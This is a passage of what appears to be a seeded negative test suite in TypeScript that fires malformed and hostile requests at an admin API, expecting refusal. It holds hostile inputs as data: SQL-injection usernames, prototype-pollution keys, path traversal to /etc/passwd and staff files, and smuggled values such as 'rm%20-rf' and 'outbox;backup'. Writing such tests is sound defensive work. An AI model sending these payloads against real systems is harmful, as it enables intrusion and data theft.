    make: (r) => post('/admin/v1/session', { username: r.pick([`${hostileText(r)}#`, 'root', 'administrator', "admin' --", '__proto__', 'constructor', 'ADMIN', 'admin ', ' admin']), password: r.pick(['admin-password-1', hostileText(r) || 'p', '']) || 'x' }),
  },
  {
    name: 'admin: login with a wrong password',
    expect: 'failed-login',
    make: (r, c) => post('/admin/v1/session', { username: c.staff.victim, password: r.pick(['wrong-password-1', hostileText(r) || 'x', 'victim-password', ' victim-password-1']) }),
  },
  {
    name: 'admin: an event that is not one',
    expect: 'refuse',
    make: (r, c) => {
      const on = today(c);
      const body = r.pick<unknown>([
        { type: hostileValue(r), on },
        { type: 'submit', on },
        { type: 'decide', on: hostileValue(r), outcome: 'granted' },
        { type: 'decide', on: r.pick(['2026-02-30', '2026-13-01', '2026/03/01', '20260301', '2026-3-1', '0000-00-00', '9999-99-99']), outcome: 'granted' },
        // other-no-supplement and other-fee-unpaid are outcomes a decision may carry (DESIGN.md, December 2026).
        { type: 'decide', on, outcome: r.pick([hostileValue(r), 'approved', 'withheld', 'Granted', 'other-unknown']) },
        { type: 'decide', on, outcome: 'granted', reason: r.pick([1, [], {}]) },
        { type: 'extend', on, days: r.pick([0, 21, -5, '5', 1.5, null, 1e9, 'NaN']) },
        { type: 'fee-notice', on, amount: r.pick([0, -1, 1.5, '100', null]) },
        { type: 'request-supplement', on, items: r.pick([[], 'x', [1], [''], null]) },
        { type: 'consult-start', on, party: r.pick(['', ' ', 1, null]) },
        { type: 'deliver', on, method: r.pick(['carrier-pigeon', 1, null]) },
        [],
        'decide',
        null,
      ]);
      return post(`/admin/v1/applications/${r.pick(c.processingApps)}/events`, body, bearer(c.staff.admin));
    },
  },
  {
    name: 'admin: an event the status does not allow',
    expect: 'refuse',
    make: (r, c) => {
      const on = today(c);
      const body = r.pick([{ type: 'deliver', on, method: 'email' }, { type: 'consult-end', on }, { type: 'fee-paid', on }, { type: 'fee-expired', on }, { type: 'supplement-received', on }, { type: 'supplement-expired', on }]);
      return post(`/admin/v1/applications/${r.pick(c.processingApps)}/events`, body, bearer(c.staff.admin));
    },
  },
  {
    name: 'admin: an event for an application that does not exist',
    expect: 'refuse',
    make: (r, c) => post(`/admin/v1/applications/${r.pick([hostileSegment(r), randomBytes(9).toString('base64url'), '__proto__', 'constructor'])}/events`, { type: 'decide', on: today(c), outcome: 'granted' }, bearer(c.staff.admin)),
  },
  {
    name: 'admin: an import that is not all valid',
    expect: 'refuse',
    make: (r, c) => {
      const good = () => ({ ...validApplication(), events: [{ type: 'receive', on: '2025-03-03' }] });
      const records = r.pick<unknown>([
        hostileValue(r),
        [],
        [good(), good(), { ...brokenApplication(r), events: [] }],
        [good(), { ...good(), events: [{ type: 'decide', on: '2025-03-05', outcome: 'granted' }, { type: 'receive', on: 'soon' }] }],
        [good(), { ...good(), events: [{ type: 'deliver', on: '2025-03-05', method: 'email' }] }],
        [good(), { ...good(), events: [{ type: 'receive', on: '2025-03-03' }, { type: 'decide', on: '2025-03-05' }] }],
      ]);
      return post('/admin/v1/applications/import', { records }, bearer(c.staff.admin));
    },
  },
  {
    name: 'admin: a paper request that breaks the rules',
    expect: 'refuse',
    make: (r, c) => post('/admin/v1/applications', brokenApplication(r), bearer(c.staff.admin)),
  },
  {
    name: 'admin: a user that cannot be created',
    expect: 'refuse',
    make: (r, c) =>
      post(
        '/admin/v1/users',
        r.pick<unknown>([
          { username: 'admin', password: 'another-password-1', roles: ['admin'] },
          { username: hostileText(r) + '!', password: 'a-good-password-1', roles: ['handler'] },
          { username: 'newuser', password: 'short', roles: ['handler'] },
          { username: 'newuser', password: 'a-good-password-1', roles: [] },
          { username: 'newuser', password: 'a-good-password-1', roles: ['superuser'] },
          { username: 'newuser', password: 'a-good-password-1', roles: 'admin' },
          { username: 'newuser', password: 12345678901, roles: ['admin'] },
          [],
          null,
        ]),
        bearer(c.staff.admin),
      ),
  },
  {
    name: 'admin: a job that does not exist',
    expect: 'refuse',
    make: (r, c) => post(`/admin/v1/jobs/${r.pick([hostileSegment(r), 'rm%20-rf', '__proto__', 'constructor', 'OUTBOX', 'outbox%00', 'outbox;backup'])}/run`, {}, bearer(c.staff.admin)),
  },
  {
    name: 'admin: an annual report asked for wrongly',
    expect: 'refuse',
    make: (r, c) => ({
      method: 'GET',
      path: `/admin/v1/reports/annual?${r.pick(['', 'year=', 'year=abc', 'year=-1', 'year=99999', 'year=2025&year=2024', 'year=2025&format=2020', 'year=2025&output=exe', 'year=2025&output=../../etc/passwd', 'year=2025&final=maybe', `year=${encode(hostileText(r))}`])}`,
      headers: bearer(c.staff.admin),
    }),
  },
  {
    name: 'admin: report figures that are not an object',
    expect: 'refuse',
    make: (r, c) => ({
      method: 'PUT',
      path: `/admin/v1/reports/annual/${r.pick(['2025', 'abc', '-1', '99999', hostileSegment(r)])}/${r.pick(['entered', 'texts', 'previous'])}`,
      headers: { 'Content-Type': 'application/json', ...bearer(c.staff.admin) },
      body: r.pick(['[]', '"x"', 'null', '42', '{', '']),
    }),
  },
  {
    name: 'admin: a reply document asked for wrongly',
    expect: 'refuse',
    make: (r, c) => ({
      method: 'GET',
      path: `/admin/v1/applications/${r.pick([c.processingApps[0]!, randomBytes(9).toString('base64url')])}/documents/${r.pick([hostileSegment(r), 'nonexistent', 'receipt'])}?${r.pick(['format=exe', 'event=-1', 'event=abc', 'format=html&format=docx', 'event=1&event=2', 'format=../../x'])}`,
      headers: bearer(c.staff.admin),
    }),
  },
  {
    name: 'admin: a notification that does not exist',
    expect: 'refuse',
    make: (r, c) =>
      r.next() < 0.5
        ? post(`/admin/v1/notify/dead-letters/${r.pick([hostileSegment(r), randomBytes(9).toString('base64url'), '__proto__'])}/retry`, {}, bearer(c.staff.admin))
        : post(`/admin/v1/notify/needs-contact/${r.pick([hostileSegment(r), randomBytes(9).toString('base64url'), '__proto__'])}/contacted`, r.pick([{ note: '已电话告知' }, { note: 'x'.repeat(501) }, { note: 1 }]), bearer(c.staff.admin)),
  },
  {
    // (DELETE /admin/v1/session is logging out now, so /admin/v1/me stands in for it.)
    name: 'admin: a method the route does not have',
    expect: 'refuse',
    make: (r, c) => ({ method: r.pick(['PUT', 'DELETE', 'PATCH']), path: r.pick(['/admin/v1/users', '/admin/v1/applications', `/admin/v1/applications/${c.processingApps[0]}`, '/admin/v1/me', '/admin/v1/jobs/outbox/run']), headers: { ...bearer(c.staff.admin), 'Content-Type': 'application/json' }, body: '{}' }),
  },
  {
    name: 'admin: path tricks',
    expect: 'refuse',
    make: (r, c) => ({
      method: r.pick(['GET', 'POST']),
      path: r.pick([
        '/admin/v1/../../etc/passwd',
        '/admin/v1/%2e%2e/%2e%2e/data/runtime/staff.json',
        '/admin/v1/applications/..%2F..%2Fusers',
        '/admin/v1/applications/%2e%2e',
        '/admin/v2/users',
        // (GET /admin/v1/users/:username is a route now; its console-only sub-paths are not.)
        '/admin/v1/users/admin/roles',
        '/admin/v1//users',
        `/admin/v1/${hostileSegment(r)}`,
        `/admin/v1/applications/${hostileSegment(r)}/events/../../users`,
      ]),
      headers: { ...bearer(c.staff.admin), 'Content-Type': 'application/json' },
      body: JSON.stringify({ username: 'walker', password: 'walker-password-1', roles: ['admin'] }),
    }),
  },
  {
    name: 'admin: a body too large',
    expect: 'refuse',
    make: (r, c) => post('/admin/v1/applications/import', { records: Array.from({ length: r.int(1500, 4000) }, () => ({ ...validApplication(), events: [] })) }, bearer(c.staff.admin)),
  },
  {
    name: 'admin: headers too large',
    expect: 'refuse',
    notJson: true,
    make: (r, c) => ({ method: 'GET', path: '/admin/v1/applications', headers: { ...bearer(c.staff.admin), 'X-Padding': 'p'.repeat(r.int(17_000, 60_000)) } }),
  },
  {
    name: 'admin: reads with odd parameters',
    expect: 'read',
    make: (r, c) => ({
      method: 'GET',
      path: `/admin/v1/applications?${r.pick(['page=-1', 'page=1e309', 'page=abc', 'status=__proto__', 'status=a&status=b', 'filter=../../x', `q=${encode(hostileText(r)).slice(0, 2000)}`, 'handler=%00', 'q[]=1&q[x]=2'])}`,
      headers: bearer(c.staff.admin),
    }),
  },
];

export const FAMILY_NAMES = FAMILIES.map((f) => f.name);

/** `count` cases, every family in turn, each drawn with the seeded random source. */
export function hostileCases(random: Random, context: HostileContext, count: number): HostileCase[] {
  const cases: HostileCase[] = [];
  for (let i = 0; i < count; i++) {
    const family = FAMILIES[i % FAMILIES.length]!;
    cases.push({ family: family.name, expect: family.expect, ...(family.notJson ? { notJson: true } : {}), ...family.make(random, context) });
  }
  return cases;
}
